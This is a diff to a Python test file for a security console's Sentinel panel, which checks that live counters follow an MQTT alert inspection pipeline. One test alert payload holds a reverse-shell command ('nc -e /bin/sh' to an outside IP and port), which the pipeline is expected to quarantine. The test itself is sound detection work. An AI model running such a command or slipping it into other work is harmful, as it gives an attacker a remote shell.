@@ -5,7 +5,8 @@ reload: an alert raised through the API, an alert raised at ``b`` with its origi
 the a-b link going down when b's NATS stops and healthy when it returns, and an operator
 lockdown clicked in the page reaching a simulated door. A third site runs the Sentinel
 cluster (three real nodes): its page's Sentinel panel counts a real client connecting and
-leaving per region, shows a stopped node as down, and follows the pipeline's counters live.
+leaving per region, shows a stopped node as down, and follows the counters of the real
+inspection pipeline live (an alert published at the origin, one clean, one quarantined).
 A failing test leaves a screenshot of the page under ``.bench/artifacts/console/``.
 """
 
@@ -13,18 +14,21 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import json
 import shutil
+import ssl
 import uuid
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
+import aiomqtt
 import pytest
 import redis.asyncio as aioredis
 
-from backend.console.sentinel import COUNTERS_KEY
 from backend.retry import Backoff
 from backend.sentinel.authdb import AuthDb
+from backend.sentinel.naming import COUNTERS_KEY
 from bench.benchfile import SiteInfo
 from bench.fleet import mqtt_fleet
 from bench.services.sentinel_client import mqtt_client
@@ -233,6 +237,16 @@ async def sentinel_page(
         yield tab
 
 
+async def add_sentinel_client(bench: RunningBench, client_id: str) -> None:
+    """A client in the Auth DB the callout reads (region eu-west)."""
+    db = AuthDb.open(bench.site("a").database)
+    try:
+        await db.start()
+        await db.add(client_id, "console-pass", "eu-west")
+    finally:
+        await db.aclose()
+
+
 async def region_tile(page: Any, region: str, status: str = "up") -> Any:
     tile = page.locator(f"#sentinel-regions [data-region='{region}'][data-status='{status}']")
     await tile.wait_for(timeout=15_000, state="attached")
@@ -260,12 +274,7 @@ async def test_the_sentinel_panel_counts_a_real_client_in_its_region(
     eu_west = sentinel_page.locator("#sentinel-regions [data-region='eu-west'] b")
     before = int((await eu_west.inner_text()).replace(",", ""))
     client_id = f"console-{uuid.uuid4().hex[:8]}"
-    db = AuthDb.open(sentinel_site.site("a").database)
-    try:
-        await db.start()
-        await db.add(client_id, "console-pass", "eu-west")
-    finally:
-        await db.aclose()
+    await add_sentinel_client(sentinel_site, client_id)
     mqtt = info.nodes[1].mqtt
     assert info.nodes[1].region == "eu-west"
     async with mqtt_client(mqtt.host, mqtt.port, sentinel_site.info.ca, client_id, "console-pass"):
@@ -273,9 +282,25 @@ async def test_the_sentinel_panel_counts_a_real_client_in_its_region(
     await wait_text(eu_west, str(before))
 
 
-async def test_the_sentinel_counters_update_live_without_reload(
+async def number_at_least(locator: Any, least: int, timeout_s: float = 30.0) -> int:
+    """Until the number the page shows (changed in place: no reload) is >= ``least``."""
+    seen = ""
+    try:
+        async with asyncio.timeout(timeout_s):
+            while True:
+                seen = await locator.inner_text()
+                if seen.replace(",", "").isdigit() and int(seen.replace(",", "")) >= least:
+                    return int(seen.replace(",", ""))
+                await asyncio.sleep(0.1)
+    except TimeoutError:
+        pytest.fail(f"the page showed {seen!r}, not at least {least}, for {timeout_s:g} s")
+
+
+async def test_the_sentinel_counters_follow_the_real_pipeline_without_reload(
     sentinel_page: Any, sentinel_site: RunningBench
 ) -> None:
+    info = sentinel_site.info.sentinel
+    assert info is not None
     # A mark in the page's window: a reload would lose it.
     await sentinel_page.evaluate("window.__noReload = true")
     tiles = {
@@ -285,18 +310,25 @@ async def test_the_sentinel_counters_update_live_without_reload(
     await tiles["inspected"].wait_for(timeout=10_000)
     redis = aioredis.from_url(sentinel_site.site("a").redis, decode_responses=True)
     try:
-        # Written the way the Sentinel worker writes it (HINCRBY per verdict; the contract
-        # with backend/sentinel's pipeline branch): until that lands, the test is the writer.
-        bump = {"inspected": 5, "delivered": 3, "flagged": 2, "quarantined": 1}
         start = {k: int(v) for k, v in (await redis.hgetall(COUNTERS_KEY)).items()}
-        async with redis.pipeline(transaction=True) as pipe:
-            for name, by in bump.items():
-                pipe.hincrby(COUNTERS_KEY, name, by)
-            await pipe.execute()
     finally:
         await redis.aclose()
-    for name, by in bump.items():
-        await wait_text(tiles[name], f"{start.get(name, 0) + by:,}")
+    client_id = f"console-{uuid.uuid4().hex[:8]}"
+    await add_sentinel_client(sentinel_site, client_id)
+    # The customer origin publishes, as in production: the Sentinel's workers inspect,
+    # deliver the clean alert, quarantine the reverse shell and count both in Redis.
+    context = ssl.create_default_context(cafile=sentinel_site.info.ca)
+    context.load_cert_chain(info.origin.publisher_cert, info.origin.publisher_key)
+    async with aiomqtt.Client(
+        info.origin.mqtt.host, info.origin.mqtt.port, tls_context=context,
+        protocol=aiomqtt.ProtocolVersion.V5, identifier=f"console-pub-{uuid.uuid4().hex[:8]}",
+    ) as publisher:  # fmt: skip
+        bad = json.dumps({"title": "x", "details": {"cmd": "nc -e /bin/sh 10.9.9.9 4444"}})
+        await publisher.publish(f"clients/{client_id}/alerts", b'{"title": "fine"}', qos=1)
+        await publisher.publish(f"clients/{client_id}/alerts", bad.encode(), qos=1)
+    await number_at_least(tiles["inspected"], start.get("inspected", 0) + 2)
+    await number_at_least(tiles["delivered"], start.get("delivered", 0) + 1)
+    await number_at_least(tiles["quarantined"], start.get("quarantined", 0) + 1)
     assert await sentinel_page.evaluate("window.__noReload") is True
 
 
